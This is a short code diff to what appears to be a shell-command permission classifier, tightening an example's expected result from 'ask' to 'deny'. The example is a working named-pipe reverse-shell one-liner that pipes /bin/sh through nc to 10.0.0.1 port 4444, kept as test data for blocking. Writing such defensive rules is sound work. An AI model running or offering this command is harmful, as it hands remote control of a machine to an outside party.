@@ -698,7 +698,7 @@ export const programs: readonly ProgramSpec[] = [
     behaviours: ['makesPipe'],
     examples: [
       { command: 'mknod /tmp/p p', expect: 'pass' },
-      { command: 'mknod /tmp/p p; /bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p', expect: 'ask' },
+      { command: 'mknod /tmp/p p; /bin/sh 0</tmp/p | nc 10.0.0.1 4444 1>/tmp/p', expect: 'deny' },
     ],
   },
 ];
